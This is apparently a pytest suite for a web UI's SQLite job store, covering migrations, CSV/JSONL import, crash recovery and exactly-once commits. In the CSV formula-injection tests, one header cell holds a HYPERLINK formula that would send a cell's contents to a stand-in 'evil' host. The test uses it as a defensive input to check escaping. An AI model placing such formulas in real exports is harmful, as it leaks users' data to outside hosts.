"""The workspace database and the job store on real SQLite: migrations, streaming import, exactly-once commits."""

from __future__ import annotations

import json
import sqlite3
import stat
from pathlib import Path

import pytest

from webui.batch.files import BatchFileError
from webui.jobs.errors import JobLimitError
from webui.jobs.files import InputReader, csv_header, csv_line, jsonl_line
from webui.jobs.store import JobStore, RowOutcome
from webui.store import db


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_text(text, encoding=encoding, newline="")
    return path


def make_store(tmp_path: Path) -> JobStore:
    return JobStore(tmp_path / "ws" / "seqgpt560m.db", tmp_path / "ws" / "jobs")


def add_job(store: JobStore, path: Path, job_id: str = "j1", max_rows: int = 100) -> object:
    reader = InputReader(path, path.name)
    return store.create(job_id, "classify", ["投诉", "咨询"], {}, path.name, path.stat().st_size, reader, max_rows)


def test_a_new_database_is_owner_only_in_wal_mode_at_the_newest_schema(tmp_path: Path):
    path = tmp_path / "ws" / "seqgpt560m.db"
    conn = db.open_database(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == len(db.MIGRATIONS)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_an_older_database_migrates_forward_keeping_its_rows(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    path = tmp_path / "old.db"
    monkeypatch.setattr(db, "MIGRATIONS", ("CREATE TABLE notes (body TEXT)",))
    db.open_database(path).execute("INSERT INTO notes VALUES ('kept')")
    monkeypatch.setattr(db, "MIGRATIONS", ("CREATE TABLE notes (body TEXT)", "ALTER TABLE notes ADD COLUMN n INTEGER"))
    conn = db.open_database(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == 2
    assert [tuple(row) for row in conn.execute("SELECT body, n FROM notes")] == [("kept", None)]


def test_a_database_from_a_newer_appliance_is_refused_untouched(tmp_path: Path):
    path = tmp_path / "new.db"
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version={len(db.MIGRATIONS) + 5}")
    conn.close()
    before = path.read_bytes()
    with pytest.raises(db.DatabaseError, match="newer than this appliance"):
        db.open_database(path)
    assert path.read_bytes() == before, "not even switched to WAL"
    assert sqlite3.connect(path).execute("PRAGMA journal_mode").fetchone()[0] == "delete"


def test_csv_rows_keep_every_column_and_a_row_without_text_fails_on_its_own(tmp_path: Path):
    path = write(tmp_path / "t.csv", "id,Text,客户\n1,快递没到,张三\n2,,李四\n\n3,\"a, b\",王五\n")
    reader = InputReader(path, path.name)
    rows = list(reader)
    assert reader.columns == ["id", "Text", "客户"] and reader.text_column == "Text"
    assert [row.source for row in rows] == [
        {"id": "1", "Text": "快递没到", "客户": "张三"},
        {"id": "2", "Text": "", "客户": "李四"},
        {"id": "3", "Text": "a, b", "客户": "王五"},
    ]
    assert [bool(row.problem) for row in rows] == [False, True, False]


def test_text_column_names_the_column_and_an_unknown_one_is_refused(tmp_path: Path):
    path = write(tmp_path / "t.csv", "id,body,note\n1,正文,x\n")
    assert [row.text for row in InputReader(path, path.name, "BODY")] == ["正文"]
    with pytest.raises(BatchFileError, match="no text column|none is named"):
        list(InputReader(path, path.name))
    with pytest.raises(BatchFileError, match="'missing'"):
        list(InputReader(path, path.name, "missing"))


def test_jsonl_keeps_each_object_and_a_bad_line_becomes_a_failed_row(tmp_path: Path):
    path = write(tmp_path / "t.jsonl", '{"id": 7, "text": "你好", "meta": {"a": 1}}\nnot json\n{"id": 8}\n')
    rows = list(InputReader(path, path.name))
    assert rows[0].source == {"id": 7, "text": "你好", "meta": {"a": 1}} and not rows[0].problem
    assert "not valid JSON" in rows[1].problem and "has no text" in rows[2].problem


def test_gb18030_csv_is_read_and_unknown_bytes_are_refused(tmp_path: Path):
    path = write(tmp_path / "gbk.csv", "text\n退货申请\n", encoding="gb18030")
    assert [row.text for row in InputReader(path, path.name)] == ["退货申请"]
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"text\n\xff\xfe\xff\x00\x81")
    with pytest.raises(BatchFileError, match="UTF-8"):
        InputReader(bad, bad.name)


def test_a_file_over_the_row_limit_leaves_no_job_and_no_rows(tmp_path: Path):
    store = make_store(tmp_path)
    path = write(tmp_path / "t.txt", "".join(f"第{i}条\n" for i in range(2500)))
    with pytest.raises(BatchFileError, match="more than 2000 rows"):
        add_job(store, path, max_rows=2000)
    conn = sqlite3.connect(store.path)
    assert conn.execute("SELECT count(*) FROM jobs").fetchone()[0] == 0
    assert conn.execute("SELECT count(*) FROM job_rows").fetchone()[0] == 0


def test_a_chunk_is_committed_once_with_the_progress_and_never_twice(tmp_path: Path):
    store = make_store(tmp_path)
    path = write(tmp_path / "t.txt", "一\n二\n三\n四\n")
    add_job(store, path)
    assert store.take_next().state == "running"
    first = [RowOutcome(1, {"label": "投诉"}, None), RowOutcome(2, None, "坏行 · bad row")]
    assert store.commit_chunk("j1", 1, first)
    assert not store.commit_chunk("j1", 1, first), "the same rows again are refused"
    job = store.get("j1")
    assert (job.rows_done, job.rows_failed) == (2, 1)
    assert [row.row for row in store.pending("j1", job.rows_done, 10)] == [3, 4]
    assert [(row, result, error) for row, _, result, error in store.results("j1")] == [
        (1, {"label": "投诉"}, None), (2, None, "坏行 · bad row"),
    ]


def test_a_job_left_running_is_queued_again_and_resumes_after_its_last_commit(tmp_path: Path):
    store = make_store(tmp_path)
    add_job(store, write(tmp_path / "t.txt", "一\n二\n三\n"))
    store.take_next()
    store.commit_chunk("j1", 1, [RowOutcome(1, {"label": "投诉"}, None)])
    reopened = make_store(tmp_path)  # as after kill -9
    assert reopened.requeue_running() == ["j1"]
    job = reopened.take_next()
    assert job.rows_done == 1 and [row.row for row in reopened.pending("j1", job.rows_done, 10)] == [2, 3]


def test_a_job_taken_but_not_read_back_stays_queued(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    store = make_store(tmp_path)
    add_job(store, write(tmp_path / "t.txt", "一\n二\n"))

    def unreadable(job_id: str) -> None:
        raise sqlite3.OperationalError("disk I/O error")

    monkeypatch.setattr(store, "get", unreadable)
    with pytest.raises(sqlite3.OperationalError):
        store.take_next()
    monkeypatch.undo()
    assert store.get("j1").state == "queued", "no runner holds it, so it must not be left running"
    assert store.take_next().id == "j1"


def test_a_cancelled_job_takes_no_more_results_and_a_purge_removes_everything(tmp_path: Path):
    store = make_store(tmp_path)
    add_job(store, write(tmp_path / "t.txt", "一\n二\n"))
    store.take_next()
    assert store.cancel("j1")
    assert not store.commit_chunk("j1", 1, [RowOutcome(1, {"label": "投诉"}, None)])
    assert not store.finish("j1", "done") and store.get("j1").state == "cancelled"
    (store.files_dir / "j1").mkdir(parents=True)
    assert store.purge("j1") and store.get("j1") is None and not (store.files_dir / "j1").exists()
    assert sqlite3.connect(store.path).execute("SELECT count(*) FROM job_rows").fetchone()[0] == 0


def test_result_lines_carry_the_users_columns_and_csv_cells_cannot_run_as_formulas():
    source = {"id": "A1", "label": "金标准", "text": "=1+1"}
    line = json.loads(jsonl_line(3, source, {"label": "投诉", "scores": {"投诉": 1.0}}, None))
    assert line == {"id": "A1", "input_label": "金标准", "text": "=1+1", "row": 3, "label": "投诉",
                    "scores": {"投诉": 1.0}, "error": ""}
    header = csv_header("classify", ["id", "label", "text"], ["投诉"])
    assert header == ["id", "input_label", "text", "row", "label", "score", "error"]
    cells = csv_line("classify", ["id", "label", "text"], ["投诉"], 3, source, {"label": "投诉",
                     "scores": {"投诉": 1.0}}, None)
    assert cells == "A1,金标准,'=1+1,3,投诉,1.0,\r\n"


def test_a_csv_cell_longer_than_csvs_default_limit_is_one_row_not_a_refused_file(tmp_path: Path):
    long = "长" * 200_000
    path = write(tmp_path / "t.csv", f"id,text\n1,{long}\n2,短文本\n")
    rows = list(InputReader(path, path.name))
    assert [len(row.text) for row in rows] == [200_000, 3]  # the runner fails the long one on its own


def test_a_row_with_more_cells_than_the_header_fails_and_its_results_keep_every_cell(tmp_path: Path):
    path = write(tmp_path / "t.csv", "id,text\n1,小米发布手机,售价3999元\n2,正常一行\n3,甲,乙,丙\n")
    reader = InputReader(path, path.name)
    rows = list(reader)
    assert "3 cells but the header names 2" in rows[0].problem and "double quotes" in rows[0].problem
    assert not rows[1].problem and "4 cells but the header names 2" in rows[2].problem
    assert reader.columns == ["id", "text", "extra_cells"]
    assert rows[0].source == {"id": "1", "text": "小米发布手机", "extra_cells": "售价3999元"}
    assert rows[1].source == {"id": "2", "text": "正常一行"}
    line = csv_line("classify", reader.columns, [], 3, rows[2].source, None, rows[2].problem)
    assert line.startswith('3,甲,"乙,丙",3,,,')
    assert json.loads(jsonl_line(1, rows[0].source, None, rows[0].problem))["extra_cells"] == "售价3999元"


def test_a_jsonl_line_with_a_lone_surrogate_fails_alone_and_the_job_is_stored(tmp_path: Path):
    store = make_store(tmp_path)
    path = write(tmp_path / "t.jsonl", '{"text": "好"}\n{"text": "ab\\ud800cd", "note": "x"}\n')
    rows = list(InputReader(path, path.name))
    assert not rows[0].problem and "lone surrogate" in rows[1].problem
    assert rows[1].source == {"text": "ab\ufffd\ufffd\ufffdcd", "note": "x"}
    job = add_job(store, path)
    assert job.rows_total == 2


def test_a_file_in_which_no_row_has_a_text_leaves_no_job(tmp_path: Path):
    store = make_store(tmp_path)
    path = write(tmp_path / "t.jsonl", '{"title": "x", "body": "hello"}\n{"title": "y"}\n')
    with pytest.raises(BatchFileError, match="none of the file's 2 rows can run; the first: .* line 1 has no text"):
        add_job(store, path)
    assert sqlite3.connect(store.path).execute("SELECT count(*) FROM job_rows").fetchone()[0] == 0


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        # An English one-column CSV whose texts hold unquoted commas: each row has too many cells.
        ("en.csv", "text\nHello, world\nApples, pears and plums\n", "row 1 has 2 cells but the header names 1"),
        # A JSON array in one line, not one object per line.
        ("arr.jsonl", '[{"text": "一"}, {"text": "二"}]\n', "line 1 is a JSON array, not an object"),
    ],
)
def test_a_file_that_cannot_run_is_refused_with_its_first_rows_reason(tmp_path: Path, name: str, content: str,
                                                                     reason: str):
    store = make_store(tmp_path)
    with pytest.raises(BatchFileError, match="文件里没有可运行的文本 · ") as refused:
        add_job(store, write(tmp_path / name, content))
    assert reason in str(refused.value)
    assert store.list_jobs() == []


def test_jsonl_lines_that_are_no_objects_fail_each_with_its_kind(tmp_path: Path):
    path = write(tmp_path / "t.jsonl", '{"text": "好"}\n[1, 2]\n7\nnull\n"也是一段文本"\n')
    rows = list(InputReader(path, path.name))
    assert [row.problem.split(", not")[0].split("is a ")[-1] for row in rows[1:4]] == [
        "JSON array", "JSON number", "JSON null"]
    assert (rows[0].problem, rows[4].problem, rows[4].text) == ("", "", "也是一段文本")


def test_an_extracted_field_named_like_a_results_column_gets_a_column_of_its_own():
    names = ["公司", "row", "error", "field_row"]
    header = csv_header("extract", ["text", "row"], names)
    assert header == ["text", "input_row", "row", "公司", "field_row", "field_error", "field_field_row", "error"]
    fields = {"row": [{"text": "第3行"}], "error": [{"text": "故障"}], "公司": [], "field_row": []}
    cells = csv_line("extract", ["text", "row"], names, 4, {"text": "甲", "row": "9"}, {"fields": fields}, "")
    assert cells == "甲,9,4,,第3行,故障,,\r\n"


def test_the_waiting_jobs_are_counted_inside_the_transaction_that_adds_one(tmp_path: Path):
    store = make_store(tmp_path)
    path = write(tmp_path / "t.txt", "一\n二\n")
    reader = InputReader(path, path.name)
    store.create("j1", "classify", ["投诉", "咨询"], {}, path.name, 4, reader, 100, max_waiting=1)
    with pytest.raises(JobLimitError, match="1 jobs are already waiting, the limit is 1"):
        store.create("j2", "classify", ["投诉", "咨询"], {}, path.name, 4, InputReader(path, path.name), 100,
                     max_waiting=1)
    assert [job.id for job in store.list_jobs()] == ["j1"]


def test_csv_header_cells_cannot_run_as_formulas_either():
    header = csv_header("extract", ["text", '=HYPERLINK("http://evil/?"&A2)'], ["@SUM(1)"])
    assert header == ["text", '\'=HYPERLINK("http://evil/?"&A2)', "row", "'@SUM(1)", "error"]


def test_repeated_or_empty_header_names_keep_every_column(tmp_path: Path):
    path = write(tmp_path / "t.csv", "text,note,note,,note_3\n快递没到,甲,乙,丙,丁\n")
    reader = InputReader(path, path.name)
    [row] = list(reader)
    assert reader.columns == ["text", "note", "note_3_", "column_4", "note_3"]  # the file's own note_3 kept
    assert row.source == {"text": "快递没到", "note": "甲", "note_3_": "乙", "column_4": "丙", "note_3": "丁"}


def test_a_column_renamed_for_a_result_key_never_takes_another_columns_name():
    source = {"row": "7", "input_row": "甲", "text": "快递没到"}
    line = json.loads(jsonl_line(1, source, {"label": "投诉"}, None))
    assert (line["input_row"], line["input_row_2"], line["row"]) == ("7", "甲", 1)
    assert csv_header("classify", list(source), [])[:3] == ["input_row", "input_row_2", "text"]
